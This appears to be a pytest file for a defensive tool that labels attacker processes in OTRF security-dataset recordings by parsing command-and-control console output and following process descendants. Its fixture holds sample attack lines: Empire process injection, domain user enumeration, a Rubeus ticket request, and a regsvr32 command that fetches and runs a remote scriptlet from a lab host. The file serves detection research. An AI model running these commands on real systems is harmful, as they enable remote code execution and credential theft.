"""The OTRF attacker-labelling rule (bench/paths.py): commands, tools, agents, descendants."""

from pathlib import Path

import pandas as pd
import yaml

from logguard.events.readers import read_frame
from logguard.graph.otrf_labels import (
    agent_processes,
    attacker_guids,
    command_tools,
    console_commands,
)

ATOMIC = Path(__file__).resolve().parents[3] / "shared" / "data" / "otrf" / "atomic"

VIEW = r"""
[*] Active agents:
Name     La Internal IP     Machine Name      Username                Process      PID    Delay
62HY9XCK ps 172.18.39.5     WORKSTATION5      *THESHIRE\pgustavo      powershell   3172   5/0.0
(Empire: agents) > interact 62HY9XCK
(Empire: 62HY9XCK) > usemodule management/psinject
(Empire: powershell/management/psinject) > set ProcName notepad
(Empire: 62HY9XCK) > shell net user /domain
(wardog) > ShellCmd /shellcommand:"C:\Tools\Rubeus.exe asktgt /user:x"
PS C:\Windows\System32> .\regsvr32.exe /s /n /u /i:http://10.10.10.5/launcher.sct scrobj.dll
"""


def test_commands_tools_and_agents_are_read_from_the_console():
    commands = console_commands(VIEW)
    assert commands == ["notepad.exe", "net user /domain", r"C:\Tools\Rubeus.exe asktgt /user:x",
                        r".\regsvr32.exe /s /n /u /i:http://10.10.10.5/launcher.sct scrobj.dll"]
    assert command_tools(commands) == {"notepad.exe", "net.exe", "rubeus.exe", "regsvr32.exe"}
    assert agent_processes(VIEW) == [("workstation5", "powershell", 3172)]


def _row(guid, image, action="registry_set", child=None, child_image=None, cmd=None, pid=None,
         host="WORKSTATION5.theshire.local"):
    return {"host": host, "process_guid": guid, "process_id": pid, "image": image,
            "action": action, "object_name": child_image, "object_guid": child,
            "object_command_line": cmd}


def test_seeds_and_their_descendants_are_attackers_and_nothing_else():
    events = pd.DataFrame([
        _row("{A}", r"C:\w\powershell.exe", pid=3172),  # the agent (by pid, image, machine)
        _row("{A}", r"C:\w\powershell.exe", "process_start", "{B}", r"C:\w\whoami.exe", "whoami"),
        _row("{B}", r"C:\w\whoami.exe", "process_start", "{C}", r"C:\w\conhost.exe", "conhost"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{N}", r"C:\w\net.exe",
             "net user /domain"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{Q}", r"C:\w\calc.exe", "calc"),
        _row("{Y}", r"C:\w\powershell.exe", pid=3172, host="OTHERHOST"),  # wrong machine
    ])
    assert attacker_guids(events, VIEW) == {"{a}", "{b}", "{c}", "{n}"}


def test_a_real_recording_gets_its_attack_tool():
    recording = ATOMIC / "windows" / "credential_access" / "host" / "cmd_sam_copy_esentutl.zip"
    view = next(
        (record["simulation"]["adversary_view"]
         for path in sorted((ATOMIC / "_metadata").glob("SDWIN-*.yaml"))
         for record in [yaml.safe_load(path.read_text())]
         if any(str(f.get("link", "")).endswith(recording.name) for f in record.get("files") or [])
         and (record.get("simulation") or {}).get("adversary_view")), None)
    assert view is not None
    events = read_frame(recording, "sysmon")
    assert attacker_guids(events, view) == {"{39e4a257-15ef-5f8d-e704-000000000700}"}
